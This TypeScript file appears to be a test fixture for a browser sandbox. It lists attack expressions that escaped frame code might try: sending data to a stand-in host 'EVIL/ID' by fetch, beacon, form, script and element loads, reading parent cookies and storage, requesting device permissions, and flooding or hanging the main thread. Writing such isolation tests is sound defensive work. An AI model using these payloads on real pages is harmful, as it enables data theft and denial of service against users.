/** What code on the frame's main thread could try, had it left the Worker. */
import type { Attack } from './attack.ts';

/** Expressions; a string that begins with LEAK means success. */
export const frameAttacks: readonly Attack[] = [
  {
    id: 'fetch-later',
    title: 'fetch later, when the document is gone',
    code: `(() => { try { fetchLater('EVIL/ID', { activateAfter: 0 }); } catch {} return ''; })()`,
  },
  {
    id: 'preconnect',
    title: 'open connections by preconnect and dns-prefetch',
    code: `(() => { for (const rel of ['preconnect', 'dns-prefetch']) {
      const link = document.createElement('link'); link.rel = rel; link.href = 'EVIL'; document.head.append(link); } })()`,
    silent: 'a browser under test opens no connection ahead',
  },
  {
    id: 'rtc-realm',
    title: 'take WebRTC from a blank frame of its own',
    code: `(() => { const f = document.createElement('iframe'); document.body.append(f);
      try { const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] });
        p.createDataChannel('x'); p.setLocalDescription(); return 'LEAK rtc'; } catch { return ''; } })()`,
  },
  {
    id: 'history',
    title: 'push two hundred entries and go back',
    code: `(() => { for (let i = 0; i < 200; i++) try { history.pushState(i, ''); } catch {} history.go(-1); })()`,
    silent: 'going back within its own document harms nobody',
  },
  {
    id: 'port',
    title: 'hand itself a second port',
    code: `(() => { const c = new MessageChannel(); postMessage('backend-architect:port', '*', [c.port2]);
      return new Promise((ok) => { c.port1.onmessage = () => ok('LEAK port'); setTimeout(ok, 300, ''); }); })()`,
    silent: 'the frame checks who sends, walls or not',
  },
  {
    id: 'share',
    title: 'ask for storage, pay, share',
    code: `Promise.all([() => document.requestStorageAccess(), () => navigator.share({ text: 'x' }),
      () => new PaymentRequest([{ supportedMethods: 'https://x.example/' }],
        { total: { label: 'a', amount: { currency: 'USD', value: '1' } } }).show()]
      .map(async (attempt) => { try { await attempt(); return 'LEAK'; } catch { return ''; } }))
      .then((all) => all.join(''))`,
    silent: 'a browser under test has nobody to pay or to share with',
  },
  {
    id: 'read-parent',
    title: 'read the page, its storage and its cookies',
    code: `[() => parent.document.title, () => top.localStorage.secret, () => document.cookie || null,
      () => localStorage.secret, () => parent.location.href, () => parent.harness]
      .map((read) => { try { return read() ? 'LEAK' : ''; } catch { return ''; } }).join('')`,
  },
  { id: 'top', title: 'navigate the page', code: `(top.location = 'EVIL/ID', '')` },
  {
    id: 'popup',
    title: 'open a window or a new tab',
    code: `(() => { const a = document.createElement('a'); a.href = 'EVIL/ID'; a.target = '_blank';
      document.body.append(a); a.click(); return open('EVIL/ID') ? 'LEAK popup' : ''; })()`,
  },
  {
    id: 'dialogs',
    title: 'open dialogs',
    code: `(alert(1), confirm(1) ? 'LEAK' : '', prompt(1) ?? '')`,
  },
  {
    id: 'download',
    title: 'start a download',
    code: `(() => { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x']));
      a.download = 'x.exe'; document.body.append(a); a.click(); })()`,
  },
  {
    id: 'form',
    title: 'submit a form',
    code: `(() => { const f = document.createElement('form'); f.action = 'EVIL/ID'; document.body.append(f); f.submit(); })()`,
  },
  {
    id: 'elements',
    title: 'load by element: image, style, media, object, frame, prefetch',
    code: `(() => { for (const html of ['<img src="EVIL/ID">', '<link rel=stylesheet href="EVIL/ID">',
      '<style>@import "EVIL/ID"</style>', '<link rel=prefetch href="EVIL/ID">', '<video src="EVIL/ID"></video>',
      '<link rel=preload as=script href="EVIL/ID">', '<object data="EVIL/ID"></object>', '<embed src="EVIL/ID">',
      '<iframe src="EVIL/ID"></iframe>', '<link rel=icon href="EVIL/ID">', '<link rel=manifest href="EVIL/ID">',
      '<svg><image href="EVIL/ID"/></svg>', '<input type=image src="EVIL/ID">', '<body background="EVIL/ID">'])
      document.body.append(document.createRange().createContextualFragment(html)); })()`,
  },
  {
    id: 'scripts',
    title: 'add script elements: remote, inline, speculation rules',
    code: `(() => { for (const [src, text, type] of [['EVIL/ID', '', ''], ['', 'fetch("EVIL/ID")', ''],
      ['', JSON.stringify({ prefetch: [{ source: 'list', urls: ['EVIL/ID'] }] }), 'speculationrules']]) {
      const s = document.createElement('script'); if (src) s.src = src; if (type) s.type = type;
      s.text = text; document.head.append(s); } })()`,
  },
  {
    id: 'blob-script',
    title: 'fetch from a blob script of its own',
    code: `(() => { const s = document.createElement('script');
      s.src = URL.createObjectURL(new Blob(['fetch("EVIL/ID")'])); document.head.append(s); })()`,
  },
  {
    id: 'fetch',
    title: 'fetch, beacon, keepalive',
    code: `(navigator.sendBeacon('EVIL/ID', 'x'), fetch('EVIL/ID', { keepalive: true, mode: 'no-cors' })
      .then(() => 'LEAK fetch', () => ''))`,
  },
  {
    id: 'rtc',
    title: 'use WebRTC, from a fresh realm too',
    code: `(() => { try { new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] }); return 'LEAK rtc'; } catch {}
      const f = document.createElement('iframe'); f.srcdoc =
      '<script>new RTCPeerConnection();fetch("EVIL/ID")<' + '/script>'; document.body.append(f); return ''; })()`,
  },
  {
    id: 'workers',
    title: 'service workers, shared workers, databases, caches',
    code: `Promise.all([() => navigator.serviceWorker.register('/sw.js'), () => caches.open('x'),
      () => new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no; })]
      .map(async (attempt) => { try { await attempt(); return 'LEAK'; } catch { return ''; } }))
      .then((all) => all.join(''))`,
  },
  {
    id: 'permissions',
    title: 'camera, place, clipboard, full screen, notifications',
    code: `Promise.all([() => navigator.mediaDevices.getUserMedia({ video: true }),
      () => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no)),
      () => navigator.clipboard.readText(), () => document.documentElement.requestFullscreen()]
      .map(async (attempt) => { try { await attempt(); return 'LEAK'; } catch { return ''; } }))
      .then((all) => all.join(''))`,
  },
  {
    id: 'nested-site',
    title: 'run a script in a frame of its own',
    code: `(() => { const f = document.createElement('iframe'); f.srcdoc =
      '<script>fetch("EVIL/ID");parent.parent.pwned=1<' + '/script>'; document.body.append(f); })()`,
  },
];

/** Attacks after which the page must throw the frame away. */
export const fatalFrameAttacks: readonly Attack[] = [
  {
    id: 'navigate-data',
    title: 'navigate the frame to a data: document',
    code: `setTimeout(() => { location = 'data:text/html,<script>fetch("EVIL/ID")<' + '/script>'; })`,
    silent: 'a browser fetches nothing from a data: document of this test',
  },
  {
    id: 'flood',
    title: 'flood the page’s window',
    code: `setTimeout(() => { for (;;) parent.postMessage('x', '*'); }, 50)`,
    silent: 'the page reads one word of its frame, walls or not',
  },
  {
    id: 'huge',
    title: 'send the page 100 MB',
    code: `setTimeout(() => parent.postMessage('x'.repeat(1e8), '*'), 50)`,
    silent: 'the page reads one word of its frame, walls or not',
  },
  {
    id: 'memory',
    title: 'take all memory on the main thread',
    code: `setTimeout(() => { const all = []; for (;;) all.push(new Array(1e5).fill(Math.random())); }, 50)`,
  },
  {
    id: 'navigate',
    title: 'navigate the frame to another origin',
    code: `setTimeout(() => { location = 'EVIL/page'; })`,
  },
  {
    id: 'hello',
    title: 'say hello again',
    code: `parent.postMessage('backend-architect:hello', '*')`,
    silent: 'the page reads one word of its frame, walls or not',
  },
  {
    id: 'other',
    title: 'talk to the page’s window',
    code: `parent.postMessage({ code: 1 }, '*')`,
    silent: 'the page reads one word of its frame, walls or not',
  },
  { id: 'spin', title: 'spin on the main thread', code: `setTimeout(() => { for (;;); })` },
];
